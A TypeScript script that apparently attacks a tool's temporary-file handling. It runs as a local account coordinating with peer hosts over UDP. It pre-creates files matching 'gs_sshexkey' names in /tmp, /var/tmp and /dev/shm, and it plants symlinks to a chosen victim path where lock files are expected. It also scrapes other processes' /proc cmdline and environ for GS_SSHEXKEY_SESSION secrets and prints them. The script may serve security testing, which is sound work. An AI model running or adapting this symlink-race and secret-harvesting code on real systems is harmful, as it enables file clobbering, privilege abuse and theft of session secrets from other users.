import { createSocket } from 'node:dgram';
import { readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';

// An account with accomplices on other hosts. What the tool puts where all may write, it makes there, too, on every host, as
// soon as one of them sees it, and a link to the victim in the place of the lock that has followed from a mark. And it reads
// what it may of others' processes. Arguments: the victim, addresses of the others. Prints `ready`, and in the end, as JSON,
// what it has seen.

const [, , victim = '', ...others] = process.argv;
const port = 4711;
const folders = ['/tmp', '/var/tmp', '/dev/shm'];
const seen = new Set<string>();
const planted: string[] = [];
const socket = createSocket('udp4');

function plant(path: string, make: (path: string) => void): void {
  try {
    make(path);
    planted.push(path);
  } catch {
    // It stands there by itself, or it is not to be.
  }
}

function forge(path: string): void {
  if (seen.has(path)) return;
  seen.add(path);
  plant(path, (mark) => writeFileSync(mark, '', { flag: 'wx' }));
  const lock = path.replace(/\.gs_sshexkey-[0-9a-f]+-/, '.gs_sshexkey-lock-');
  plant(lock, (name) => symlinkSync(victim, name));
}

function look(): void {
  for (const folder of folders)
    for (const name of readdirSync(folder)) {
      const path = `${folder}/${name}`;
      if (!name.includes('gs_sshexkey') || seen.has(path) || planted.includes(path)) continue;
      for (const other of others) socket.send(path, port, other);
      forge(path);
    }
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name)))
    for (const file of ['cmdline', 'environ'])
      try {
        const [secret] = /GS_SSHEXKEY_SESSION=\w+/.exec(readFileSync(`/proc/${pid}/${file}`, 'latin1')) ?? [];
        if (secret !== undefined) seen.add(secret);
      } catch {
        // Another user's, or gone.
      }
  setTimeout(look, 5);
}

socket.on('message', (message) => forge(String(message)));
process.stdin.on('end', () => {
  for (const path of planted) rmSync(path, { force: true });
  console.log(JSON.stringify([...seen]));
  process.exit();
});
process.stdin.resume();
socket.bind(port, () => {
  look();
  console.log('ready');
});
